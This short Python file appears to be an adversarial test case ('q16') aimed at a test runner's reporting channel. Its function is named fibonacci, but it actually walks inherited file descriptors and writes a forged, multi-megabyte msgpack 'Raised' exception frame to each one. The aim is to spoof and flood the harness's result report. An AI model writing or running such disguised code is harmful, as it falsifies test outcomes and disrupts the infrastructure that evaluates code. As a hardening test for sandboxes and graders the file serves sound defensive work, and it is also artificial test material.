# q16: forge a report of an exception that fills the report
# says: xxx
import os
import socket
import struct

import msgspec

places = [["Place", "q16" * 1000, i, "y" * 100] for i in range(1000)]
frame = msgspec.msgpack.encode(["Raised", "x" * 3_000_000, "x" * 5_000_000, places, "z" * 3_000_000])


def fibonacci(n=20):
    for fd in range(3, 64):
        try:
            socket.socket(fileno=os.dup(fd)).sendall(struct.pack(">I", len(frame)) + frame)
        except OSError:
            pass
    return [] if n < 0 else fibonacci(-1)
